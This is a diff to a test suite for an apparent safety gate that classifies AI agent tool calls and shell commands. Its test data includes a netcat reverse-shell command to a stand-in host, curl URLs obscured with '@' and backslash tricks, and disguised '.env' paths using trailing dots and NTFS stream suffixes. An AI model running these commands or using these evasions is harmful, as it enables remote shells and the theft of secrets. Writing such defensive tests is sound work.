@@ -85,6 +85,8 @@ describe("a tool", () => {
     const classified = ask("mcp.disk.save", { x: 1 });
     expect(classified.entry?.tool).toBe("mcp.disk.*");
     expect(classified.signals).toContain("tool.wildcard");
+    // A server may call its tool so.
+    expect(ask("mcp.disk.*", {}).signals).toContain("tool.wildcard");
   });
   it("whose input is not as its schema says is a finding with the first problems", () => {
     const [finding] = ask("shell.run", { command: "ls", wrong: 1 }).findings;
@@ -166,6 +168,8 @@ describe("a command", () => {
     ["find . -name '*.o' -delete", "file.delete file.delete.recursive"],
     ["curl https://x.test", "network.fetch"],
     ['curl "$URL"', "network.fetch url.unresolved"],
+    ["curl 'https://x.test\\@y.test/'", "network.fetch url.unresolved"],
+    ["curl https://a@b@x.test/", "network.fetch url.unresolved"],
     ['curl "https://x.test/$ID"', "network.fetch"],
     ["python3 -m http.server 80", "network.listen"],
     ["nc -e /bin/sh x.test 80", "network.send reverse.shell"],
@@ -240,6 +244,14 @@ describe("a command", () => {
     ]);
   });
 
+  it("runs in every folder that it may run in, when a field names one that runtimes know or do not", () => {
+    for (const field of ["cwd", "working_directory"]) {
+      const classified = ask("shell.run", { command: "touch ../a", [field]: "sub/sub" });
+      expect(touched(classified)).toEqual(["write /a", "write /project/sub/a"]);
+      expect(classified.signals).toEqual(["path.outside-workspace.write"]);
+    }
+  });
+
   it.each<[string, JsonObject, Partial<GateRequest>]>([
     ["a shell that is no kin of bash", { command: "dir", shell: "C:\\Windows\\powershell.exe" }, {}],
     ["a tool of Windows", { command: "Remove-Item x" }, { tool_alias: "PowerShell" }],
@@ -286,6 +298,20 @@ describe("a file tool", () => {
     expect(touched(classified)).toEqual([expected]);
     expect(classified.resource).toBe(expected.split(" ")[1]);
     expect(classified.signals.join(" ")).toBe(signals);
+  });
+
+  it.each([
+    ["/work/.env/", "/work", "/work/.env"],
+    ["sub/.env//", "/work", "/work/sub/.env"],
+    ["/", "/work", "/"],
+    ["C:\\w\\.env\\", "C:\\w", "C:\\w\\.env"],
+    ["C:\\w\\.env. .", "C:\\w", "C:\\w\\.env"],
+    [".env::$DATA", "C:\\w", "C:\\w\\.env"],
+    ["C:\\", "C:\\w", "C:\\"],
+  ])("has one name for one file: %s in %s", (path, folder, expected) => {
+    expect(touched(ask("file.read", { file_path: path }, { working_directory: folder }))).toEqual([
+      `read ${expected}`,
+    ]);
   });
 
   it("touches a file behind a link under both names", () => {
